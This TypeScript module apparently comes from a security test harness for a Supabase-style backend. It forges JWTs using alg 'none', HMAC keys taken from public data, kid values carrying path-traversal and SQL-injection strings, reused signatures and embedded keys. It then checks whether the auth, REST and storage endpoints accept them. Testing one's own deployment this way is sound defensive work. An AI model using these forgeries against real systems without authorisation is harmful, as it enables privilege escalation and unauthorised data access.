import { createHmac } from 'node:crypto'
import { type Attack, tally } from './target.ts'

const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
const ROLES = ['authenticated', 'service_role', 'supabase_admin', 'postgres', 'anon']

/** Forged tokens: unsigned, signed with public data, for another time, role or person. */
export const forgedTokens: Attack = async ({ send, member, anonKey }) => {
  const victim = await member()
  const { outcome, tried } = tally()
  const [head = '', body = '', signature = ''] = victim.token.split('.')
  const claims = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>
  const header = JSON.parse(Buffer.from(head, 'base64url').toString()) as Record<string, unknown>
  const jwks = await (await send('/auth/v1/.well-known/jwks.json')).text()
  const forged: [string, string][] = []
  const signed = (name: string, head: unknown, claims: unknown, secret: string, hash = 'sha256') => {
    const text = `${encode(head)}.${encode(claims)}`
    forged.push([name, `${text}.${createHmac(hash, secret).update(text).digest('base64url')}`])
  }
  for (const role of ROLES) {
    const wanted = { ...claims, role, exp: Number(claims.exp) + 3600 }
    for (const alg of ['none', 'None', 'NONE', ''])
      forged.push([`alg ${alg} as ${role}`, `${encode({ ...header, alg })}.${encode(wanted)}.`])
    for (const secret of [
      anonKey,
      jwks,
      JSON.parse(jwks).keys[0].x,
      'super-secret-jwt-token-with-at-least-32-characters-long',
      '',
    ]) {
      signed(
        `HS256 with what is public, as ${role}`,
        { alg: 'HS256', typ: 'JWT', kid: header.kid },
        wanted,
        secret,
      )
      signed(`HS256 without a key's name, as ${role}`, { alg: 'HS256', typ: 'JWT' }, wanted, secret)
      signed(`HS512 as ${role}`, { alg: 'HS512', typ: 'JWT' }, wanted, secret, 'sha512')
    }
    for (const kid of ['../../../../dev/null', "' or 1=1 --", '', 'a'.repeat(4000)])
      signed(`kid ${kid.slice(0, 12)} as ${role}`, { alg: 'HS256', kid }, wanted, '')
    forged.push([`another's signature as ${role}`, `${head}.${encode(wanted)}.${signature}`])
    forged.push([
      `an embedded key as ${role}`,
      `${encode({ ...header, jwk: JSON.parse(jwks).keys[0] })}.${encode(wanted)}.${signature}`,
    ])
  }
  for (const [name, token] of forged) {
    const answers = await Promise.all([
      send('/auth/v1/user', { token }),
      send('/rest/v1/profiles?select=id', { token }),
      send('/storage/v1/bucket', { token }),
    ])
    tried(
      name,
      answers.some(({ status }) => status < 400),
    )
  }
  return outcome
}
